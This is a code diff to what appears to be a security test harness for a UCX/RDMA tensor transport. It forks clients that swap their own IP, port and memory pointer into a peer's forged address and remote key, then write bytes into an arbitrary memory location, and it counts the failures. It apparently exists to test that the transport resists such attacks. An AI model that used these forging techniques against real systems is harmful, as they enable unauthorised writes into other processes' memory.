@@ -368,7 +368,13 @@ def forged_transfer(target: Target) -> None:
         if pid == 0:  # to connect where nobody answers takes minutes, and cannot be given up
             code = 1
             with contextlib.suppress(Exception):
-                write_to(Transport(f"stranger-{place[1]}", torch.device("cpu")), *place)
+                transport = Transport(f"stranger-{place[1]}", torch.device("cpu"))
+                transport.admit([os.environ["LAB_ADDRESS"]])  # UCX connects to itself
+                is_written = write_to(transport, *place, 4096)  # where no process has memory
+                for _ in range(1000):
+                    transport.receive()
+                    is_written()
+                    time.sleep(0.001)
                 code = 0
             os._exit(code)
         clients.append(pid)
@@ -378,21 +384,25 @@ def forged_transfer(target: Target) -> None:
     target.count("clients that failed", sum(os.waitstatus_to_exitcode(status) == 1 for status in ended))
 
 
-def write_to(transport: Any, host: str, port: int) -> None:
-    """Take this agent's own address, put another's in its place, and write to the first page of its memory."""
-    transport.admit([os.environ["LAB_ADDRESS"]])  # UCX connects to itself
+def write_to(transport: Any, host: str, port: int, place: int) -> Callable[[], bool]:
+    """Take this agent's own address, put another's in its place, and begin to write sevens to a place in its memory.
+
+    Returns:
+        Whether they have been written, whenever it is asked.
+    """
     mine, name = torch.full((64,), 7, dtype=torch.uint8), transport.name.encode()
     transport.register([mine])
     own = socket.inet_aton(os.environ["LAB_ADDRESS"]), struct.pack("!H", transport.ports[0])
     address = transport.address().replace(own[0], socket.inet_aton(host)).replace(own[1], struct.pack("!H", port))
     peer = transport.connect(address.replace(name, name[::-1]))
-    key = transport.key(mine).replace(struct.pack("<Q", mine.data_ptr()), struct.pack("<Q", 4096))
+    key = transport.key(mine).replace(struct.pack("<Q", mine.data_ptr()), struct.pack("<Q", place))
     transport.accept_key(key.replace(name, name[::-1]), peer)
-    handle = transport.write(peer, [(mine.data_ptr(), 64)], [(4096, 64)], 0)
-    for _ in range(1000):
-        transport.receive()
-        transport.is_written(handle)
-        time.sleep(0.001)
+    handle = transport.write(peer, [(mine.data_ptr(), 64)], [(place, 64)], 0)
+
+    def is_written(_needed: torch.Tensor = mine) -> bool:
+        return transport.is_written(handle)
+
+    return is_written
 
 
 # ---- Attacks on ports ----
